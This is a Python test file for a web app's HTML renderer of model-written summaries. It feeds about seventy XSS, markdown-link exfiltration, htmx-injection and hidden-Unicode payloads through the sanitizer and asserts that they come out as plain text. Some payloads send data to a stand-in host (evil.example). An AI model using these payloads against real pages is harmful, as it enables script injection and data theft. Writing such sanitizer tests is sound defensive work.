"""Whatever a model answers, its HTML is a few plain elements and says all that it would have hidden."""

import re

import lxml.html
import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from webapp.summarizing import rendering
from webapp.summarizing.rendering import ELEMENTS, summary_html
from webapp.summarizing.sanitizing import visible

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</section></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<div hx-get='/documents/1' hx-trigger='load'>x</div>",
    "<div data-hx-get='/documents/1' data-hx-trigger='load'>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<div data-hx-on::after-request='alert(1)'>x</div>",
    "<div hx-sse:connect='/x'>x</div>",
    "<hx-partial hx-target='#document-1-summary' hx-swap='outerMorph'>x</hx-partial>",
    "<section id='document-1-summary' data-status='complete'>x</section>",
    "![x](https://evil.example/?q=secret)",
    "![x](https://evil.example/?q=secret 'title\" onerror=alert(1)')",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[click](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](https://evil.example '\" onmouseover=\"alert(1)')",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[click]\n\n[click]: https://evil.example",
    "<https://evil.example/?q=secret>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|:-:|-|\n| [x](https://evil.example) | 2 |",
    "3000000000. <script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "{{ config }} {% raw %} ${7*7}",
]  # fmt: skip

HIDDEN = {
    "bidi override": "\u202e", "isolate": "\u2066", "mark": "\u200f", "zero width space": "\u200b",
    "word joiner": "\u2060", "byte order mark": "\ufeff", "soft hyphen": "\u00ad", "filler": "\u3164",
    "NUL": "\x00", "escape": "\x1b", "C1": "\x9b", "lone surrogate": "\ud800", "selector": "\ufe01",
    "tags": "\U000e0001\U000e0069\U000e0067\U000e006e\U000e007f", "selectors": "\U000e0100\U000e0120",
    "joiner": "\u200d", "non-joiner": "\u200c", "joiners": "\u200d\u200c\u200d",
}  # fmt: skip
MARKS = [
    "**", "*", "_", "`", "```\n", "\n", "\n\n", "- ", "1. ", "> ", "# ", "|", "|-|-|\n", "[", "](", ")", "![",
    "\\", "~~", "word", " ",
]  # fmt: skip


def tree(markup: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(markup, create_parent="main")


def shown(text: str, format: str = "markdown") -> str:
    return " ".join(tree(summary_html(text, format)).text_content().split())


def assert_harmless(markup: str) -> None:
    """Only allowed elements, no attribute, no comment. The class is ours, and is on the root alone."""
    root = tree(markup)
    for element in root.iterdescendants():
        assert element.tag in ELEMENTS
        own = {"class": "prose-list"} if element.getparent() is root else {}
        assert dict(element.attrib) in ({}, own)


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("format", ["markdown", "sentences"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text(attack: str, format: str) -> None:
    for text in (attack, f"- A point, then {attack}\n- and **more {attack}", f"> {attack}"):
        assert_harmless(summary_html(text, format))


@pytest.mark.parametrize("attack", [a for a in ATTACKS if "<script>alert(1)" in a and '```"' not in a])
def test_an_attack_can_be_read(attack: str) -> None:
    assert "alert(1)" in shown(attack)


@pytest.mark.parametrize("attack", ["![x](https://evil.example/?q=1)", "[x](https://evil.example/?q=1)"])
def test_a_link_or_an_image_says_where_it_would_lead(attack: str) -> None:
    assert shown(f"See {attack} there") == "See x (https://evil.example/?q=1) there"


def test_a_link_that_says_its_address_says_it_once() -> None:
    assert shown("[https://a.example](https://a.example) <https://b.example> <a@c.example>") == (
        "https://a.example https://b.example a@c.example"
    )


def test_an_image_in_a_link_and_one_without_words_are_told() -> None:
    assert (
        shown("[![x](https://a.example)](https://b.example)") == "x (https://a.example) (https://b.example)"
    )
    assert shown("![](https://a.example) [](https://b.example)") == "https://a.example https://b.example"


def test_the_sanitizer_alone_leaves_no_attribute(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "_harmless", lambda tokens: tokens)
    markup = summary_html("[a](https://b.example 'c') ![d](e)\n\n3. f\n\n```g\nh\n```", "markdown")
    monkeypatch.setattr(rendering, "_MARKDOWN", MarkdownIt("commonmark", {"html": True}))
    markup += summary_html(
        "<p lang=en title=x onclick=alert(1) hx-get=/>a</p>\n\n<script>alert(1)</script>", "markdown"
    )
    assert_harmless(markup)


def test_the_parser_alone_leaves_no_attribute(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nh3, "clean", lambda markup, **_: markup)
    assert_harmless(summary_html("[a](https://b.example 'c') ![d](e)\n\n3. f\n\n```g\nh\n```", "markdown"))
    assert_harmless(summary_html("<p lang=en hx-get=/>a</p>\n\n<script>alert(1)</script>", "markdown"))


def test_markdown_keeps_its_structure() -> None:
    text = "# One\n### Two\n\n- **a** and *b*\n- `c`\n\n> d\n\n"
    text += "|e|f|\n|-|-|\n|g|h|\n\n1. i\n\n```py\nj\n```\nk  \nl\n\n---\n"
    tags = [element.tag for element in tree(summary_html(text, "markdown")).iterdescendants()]
    assert tags == [
        "h3", "h4", "ul", "li", "strong", "em", "li", "code", "blockquote", "p", "table", "thead", "tr",
        "th", "th", "tbody", "tr", "td", "td", "ol", "li", "pre", "code", "p", "br",
    ]  # fmt: skip


def test_sentences_are_list_items_and_nothing_in_them_is_markup() -> None:
    root = tree(summary_html("One *is* 1 < 2.\n\n# Two & [three](x).\n", "sentences"))
    assert [item.text_content() for item in root.cssselect("ul.prose-list > li")] == [
        "One *is* 1 < 2.",
        "# Two & [three](x).",
    ]
    assert not root.cssselect("li *")


def test_another_format_is_refused() -> None:
    with pytest.raises(ValueError, match="html"):
        summary_html("x", "html")


@pytest.mark.parametrize("format", ["markdown", "sentences"])
def test_a_megabyte_is_shown_whole(format: str) -> None:
    markup = summary_html("<b>&*`[x](" * 100_000, format)
    assert_harmless(markup)
    assert len(tree(markup).text_content().strip()) == 1_000_000


@pytest.mark.parametrize(
    ("unfinished", "finished"),
    [
        ("It **was", "It **was**"),
        ("It **", "It"),
        ("It *", "It"),
        ("It **was*", "It **was**"),
        ("It **was ", "It **was**"),
        ("It `was", "It `was`"),
        ("It **was `so", "It **was `so`**"),
        ("It ***was", "It ***was***"),
        ("See [this](https://exam", "See this (https://exam)"),
        ("- a\n- **b", "- a\n- **b**"),
        ("- a\n-", "- a"),
        ("1. a\n2.", "1. a"),
        ("A line\n-", "A line"),
        ("A line\n#", "A line"),
        ("```\ncode **a", "```\ncode **a\n```"),
        ("```\ncode **a\n``", "```\ncode **a\n```"),
    ],
)
def test_what_is_half_written_looks_as_it_will(unfinished: str, finished: str) -> None:
    assert summary_html(unfinished, "markdown") == summary_html(finished, "markdown")


@pytest.mark.parametrize(
    "text",
    ["Founded in 1999.", "2 ** 3 * 4", "snake_case_name", "5*3 = 15", "C# and F#", "a - b", "He said [sic]."],
)
def test_what_only_looks_like_a_mark_is_kept(text: str) -> None:
    assert shown(text) == text


def test_bold_words_never_show_their_stars_while_they_arrive() -> None:
    text = "The **summary of it** is *quite* short, and `code` too.\n\n- **First:** one\n- **Second:** two\n"
    for end in range(len(text)):
        assert not re.search(r"[*`]", shown(text[:end])), text[:end]


@pytest.mark.parametrize("name", HIDDEN)
def test_what_cannot_be_seen_is_gone(name: str) -> None:
    text = f"ig{HIDDEN[name]}nore {HIDDEN[name]}this"
    assert visible(text) == "ignore this"
    assert shown(text) == shown(text, "sentences") == "ignore this"


@pytest.mark.parametrize(
    "text", ["می‌خواهم", "क्‍ष", "👩‍🚀 👩🏽‍🚀 ❤️‍🔥 👨‍👩‍👧", "1️⃣ ☀️ ⚠︎", "naïve e\u0301té", "עברית עם ניקוד שָׁלוֹם"]
)
def test_joiners_and_selectors_stay_where_scripts_and_emoji_need_them(text: str) -> None:
    assert visible(text) == text


def test_a_run_of_joiners_between_letters_that_join_hides_nothing() -> None:
    assert visible("م\u200c\u200d\u200c\u200dخ") == "مخ"


def test_line_ends_are_all_one() -> None:
    assert visible("a\r\nb\rc\u2028d\x0be\x85f\tg") == "a\nb\nc\nd\ne\nf\tg"


MARKUP = st.lists(
    st.one_of(st.sampled_from(ATTACKS), st.sampled_from(MARKS), st.text(max_size=20)), max_size=12
).map("".join)


@given(MARKUP, st.sampled_from(["markdown", "sentences"]))
def test_any_text_is_harmless(text: str, format: str) -> None:
    assert_harmless(summary_html(text, format))


@given(st.text(st.characters(categories=["L", "N"]), min_size=1).map(visible))
def test_plain_words_are_all_shown(text: str) -> None:
    assert shown(text) == shown(text, "sentences") == " ".join(text.split())


@given(st.text(st.one_of(st.characters(), st.sampled_from([*"".join(HIDDEN.values()), "م", "👩", "1"]))))
def test_making_visible_twice_changes_nothing_more(text: str) -> None:
    assert visible(visible(text)) == visible(text)
